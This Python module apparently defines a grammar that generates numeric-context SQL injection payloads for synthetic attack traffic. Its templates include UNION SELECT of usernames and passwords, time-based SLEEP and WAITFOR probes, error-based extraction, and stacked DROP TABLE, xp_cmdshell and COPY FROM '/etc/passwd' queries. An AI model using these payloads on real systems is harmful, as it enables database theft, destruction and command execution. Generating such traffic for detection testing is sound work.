"""SQL injection behind a number, where no quote has to be left: the part of a statement that
follows ``WHERE id = 1``."""

from traffic.grammars.attacks.pieces import Grammar
from traffic.grammars.attacks.sqli_symbols import SYMBOLS, cased

# Tables: as many alternatives to a line as fit.
# fmt: off
_GRAMMAR = Grammar({
    **SYMBOLS,
    "k": (
        "1", "1", "1", "0", "-1", "-1", "‹d›", "‹n›", "‹n›", "-‹n›", "‹n›)", "1)", "‹nn›", "1.0",
        "(‹d›)", "null", "‹id›=‹n›", "id=‹d›", "‹id›", "‹n›))", "‹d› ", "0x‹hex2›", "‹word›",
    ),
    "e": ("", "", "", "--", "-- ", "-- -", "#", "--+", "/*", ";--", ";", "%23", " --", ";%00"),
    "cond": (
        "1=1", "1=2", "1=0", "0=0", "‹d#1›=‹d#1›", "‹n#1›=‹n#1›", "‹n›=‹n›", "‹d›>‹d›", "‹n›<‹nn›",
        "true",
        "false", "'‹abc#1›'='‹abc#1›'", '"‹abc#1›"="‹abc#1›"', "(‹d#2›)=(‹d#2›)", "‹d› like ‹d›",
        "‹id›=‹id›",
        "1 is not null", "not 1=2", "‹d#3› in (‹d#3›)", "‹d› between ‹d› and ‹n›", "‹d#4›<>‹d#4›",
        "1=1 LIMIT 1",
    ),
    "bool": ("OR", "OR", "OR", "AND", "AND", "AND", "||", "&&", "XOR", "OR NOT", "AND NOT"),
    "cols2": (
        "‹seq›", "‹seq›", "‹nulls›", "username,password", "‹id›,‹id›", "‹col›,‹col›", "‹col›",
        "‹cols›",
        "user,pass,‹seq›", "login,passwd", "‹d›,‹ver›,‹d›", "concat(username,0x3a,password),‹seq›",
        "*",
        "table_name,‹seq›", "group_concat(‹id›),‹seq›",
    ),
    "tbl2": (
        "users", "users", "admin", "members", "customers", "‹id›", "‹tbl›", "accounts", "user",
        "login",
    ),
    "sl": (
        "SLEEP(‹secs›)", "SLEEP(‹secs›)", "PG_SLEEP(‹secs›)", "BENCHMARK(‹heavy›,MD5(1))", "‹wait›",
        "IF(‹cond›,SLEEP(‹secs›),0)", "(SELECT SLEEP(‹secs›))",
        "(SELECT 1 FROM (SELECT SLEEP(‹secs›))‹abc›)",
    ),
}, finish=cased)

RULES = _GRAMMAR.rules(
    number_condition=(
        "‹k› ‹bool› ‹cond›‹e›", "‹k› ‹bool› ‹cond›‹e›", "‹k› ‹bool› ‹cond› ‹bool› ‹cond›‹e›",
        "‹k›‹sp›‹bool›‹sp›‹cond›‹e›", "‹k› ‹bool› (‹cond›)", "‹k›) ‹bool› (‹cond›",
        "‹k›+‹bool›+‹n#5›=‹n#5›‹e›",
    ),
    number_union=(
        "‹k› UNION SELECT ‹cols2› FROM ‹tbl2›‹e›", "‹k› UNION ALL SELECT ‹cols2› FROM ‹tbl2›‹e›",
        "‹k› UNION SELECT ‹cols2›‹e›", "‹k› UNION ALL SELECT ‹cols2›‹e›",
        "‹k›+UNION+SELECT+‹cols2›+FROM+‹tbl2›‹e›",
        "‹k› UNION DISTINCT SELECT ‹cols2›‹e›",
        "‹k› AND ‹cond› UNION SELECT ‹cols2› FROM ‹tbl2›‹e›",
        "‹k› UNION SELECT ‹cols2› FROM ‹tbl2› WHERE ‹id›=‹n›‹e›",
        "‹k› UNION (SELECT ‹cols2› FROM ‹tbl2›)",
        "‹k› UNION SELECT ‹cols2› FROM ‹tbl2› LIMIT ‹d›‹e›",
        "‹k› ‹EXCEPT¦INTERSECT¦MINUS› SELECT ‹cols2› FROM ‹tbl2›‹e›",
    ),
    number_order=(
        "‹k› ORDER BY ‹n›‹e›", "‹k› ORDER BY ‹d›--", "‹k› ORDER BY ‹seq›‹e›",
        "‹k› GROUP BY ‹seq›‹e›",
        "‹k› GROUP BY ‹id› HAVING ‹cond›‹e›", "‹k› HAVING ‹cond›‹e›",
        "‹k› PROCEDURE ANALYSE(‹d?›)‹e›",
        "‹k› LIMIT ‹d›,‹d› UNION SELECT ‹seq›‹e›", "‹k› INTO ‹OUTFILE¦DUMPFILE› '/tmp/‹id›.txt'‹e›",
        "‹k› ORDER BY ‹n›,(SELECT ‹d› FROM ‹tbl2›)‹e›",
        "‹k› PROCEDURE ANALYSE(EXTRACTVALUE(‹n›,CONCAT(0x3a,‹ver›)),1)",
        "‹k› INTO @‹abc›,@‹abc›‹e›", "‹k› FOR UPDATE;‹e›--",
        "‹k› ORDER BY IF(‹cond›,‹d›,(SELECT ‹d› UNION SELECT ‹d›))",
    ),
    number_time=(
        "‹k› ‹bool› ‹sl›‹e›", "‹k› AND ‹sl›‹e›", "‹k› OR ‹sl›‹e›",
        "‹k›;‹sp?›WAITFOR DELAY '0:0:‹secs›'‹e›",
        "‹k›;SELECT ‹sl›‹e›", "‹k›-‹sl›", "‹k› WAITFOR DELAY '00:00:‹secs›'‹e›", "‹k›*‹sl›",
        "‹k›;SELECT PG_SLEEP(‹secs›)‹e›",
        "‹k› AND ‹n#1›=DBMS_PIPE.RECEIVE_MESSAGE('‹abc›',‹secs›)‹e›", "‹k› OR (‹sl›)=‹d›‹e›",
        "‹k›;IF(‹cond›) WAITFOR DELAY '0:0:‹secs›'‹e›", "‹k›&&‹sl›‹e›", "‹k›||‹sl›‹e›",
    ),
    number_stacked=(
        "‹k›;‹sp?›DROP TABLE ‹tbl2›‹e›", "‹k›;‹sp?›DROP ‹TABLE¦DATABASE› ‹id›‹e›",
        "‹k›; DELETE FROM ‹tbl2›‹e›",
        "‹k›;UPDATE ‹tbl2› SET ‹id›=‹n›‹e›", "‹k›;INSERT INTO ‹tbl2› VALUES(‹seq›)‹e›",
        "‹k›;EXEC xp_cmdshell '‹shell›'‹e›",
        "‹k›;SHUTDOWN‹e›--", "‹k›;SELECT ‹cols2› FROM ‹tbl2›‹e›", "‹k›; TRUNCATE TABLE ‹tbl2›‹e›",
        "‹k›;DECLARE @‹abc› ‹varchar(‹n›)¦int›‹e›",
        "‹k›; EXEC master..xp_‹cmdshell¦dirtree¦regread› '‹shell›'‹e›",
        "‹k›;CREATE TABLE ‹id›(‹abc› int)‹e›", "‹k›;COPY ‹id› FROM '/etc/passwd'‹e›",
        "‹k›;PRAGMA ‹table_info(‹id›)¦‹abc››‹e›",
        "‹k›; begin ‹id›; end;‹e›--", "‹k›; EXECUTE IMMEDIATE '‹sub›'‹e›",
        "‹k›;ALTER TABLE ‹tbl2› DROP ‹id›‹e›",
    ),
    number_subquery=(
        "‹k› AND (‹sub›)‹op›‹n›‹e›",
        "‹k› AND ‹ASCII¦ORD›(‹SUBSTRING¦MID¦SUBSTR›((‹sub›),‹d›,1))>‹nc›‹e›",
        "‹k›‹-¦+¦*¦/¦%¦^¦|¦&›(‹sub›)", "‹k› IN (‹sub›)‹e›", "‹k› AND EXISTS(‹sub›)‹e›",
        "‹k› = (‹sub›)", "(‹sub›)",
        "‹k› AND ‹SUBSTRING¦MID¦LEFT›(‹ver›,1,1)=‹d›‹e›", "‹k› AND LENGTH(‹ver›)‹op›‹d›‹e›",
        "‹k› AND ‹ver› LIKE '‹abc›%'‹e›",
        "‹k› AND EXTRACTVALUE(‹d›,CONCAT(0x7e,(‹sub›)))‹e›",
        "‹k› AND UPDATEXML(1,CONCAT(0x7e,‹ver›),1)‹e›",
        "‹k› AND 1=CONVERT(int,‹ver›)‹e›", "‹k› AND 1=CAST((‹sub›) AS int)‹e›",
        "‹k› AND 1=UTL_INADDR.GET_HOST_ADDRESS((‹sub›))",
        "‹k› AND (SELECT COUNT(*) FROM ‹tbl2›)>‹d›‹e›",
        "CASE WHEN ‹cond› THEN ‹k› ELSE (‹sub›) END",
    ),
    number_operators=(
        "‹k› ‹RLIKE¦LIKE› ‹d›‹e›", "‹k› ‹bool› ‹d› ‹RLIKE¦REGEXP¦LIKE› ‹d›‹e›",
        "‹k› REGEXP '‹abc›'‹e›", "‹k› ‹bool› ‹id› ‹LIKE¦REGEXP› 0x‹hex›‹e›",
        "‹k› BETWEEN ‹d› AND (‹sub›)", "‹k› ‹bool› ‹n› BETWEEN ‹d› AND ‹nn›‹e›",
        "‹k› ‹DIV¦MOD¦XOR¦<=>› (‹cond›)‹e›",
        "‹k› ‹bool› ‹id› IS ‹NOT ¦›NULL‹e›", "‹k› ‹bool› ‹d#1› IN (‹d#1›,‹n›)‹e›",
        "‹k› RLIKE (SELECT ‹d› FROM ‹tbl2›)",
        "‹k› ‹bool› ‹id› ‹SOUNDS LIKE¦SIMILAR TO¦GLOB¦ILIKE› '‹abc›%'‹e›",
        "‹k› ‹bool› ‹col› LIKE '%‹abc›%'‹e›",
        "‹k› ‹bool› ROW(‹d›,‹d›)>(SELECT ‹d›,‹d›)", "‹k› COLLATE ‹id› ‹bool› ‹cond›‹e›",
        "‹k› ‹bool› ~‹d›=‹n›‹e›",
    ),
)
